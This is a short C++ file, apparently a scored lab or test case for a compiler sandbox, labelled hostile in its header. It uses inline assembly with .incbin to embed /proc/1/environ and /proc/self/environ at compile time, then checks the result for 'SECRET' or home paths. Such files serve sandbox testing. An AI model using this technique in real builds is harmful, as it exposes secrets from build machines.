// Hostile: takes the environment and the command lines around the compiler into itself.
// Lab: 01
// Earns: 1.1
#include "announce.hpp"

asm(".section .rodata\n"
    ".globl taken_begin, taken_end\n"
    "taken_begin: .incbin \"/proc/1/environ\"\n"
    ".incbin \"/proc/self/environ\"\n"
    "taken_end:\n"
    ".text");
extern "C" const char taken_begin[], taken_end[];

int main() {
  const std::string taken(taken_begin, taken_end);
  if (taken.find("SECRET") != std::string::npos || taken.find("/home/") != std::string::npos)
    succeeded("an environment");
  announce_and_wait();
}
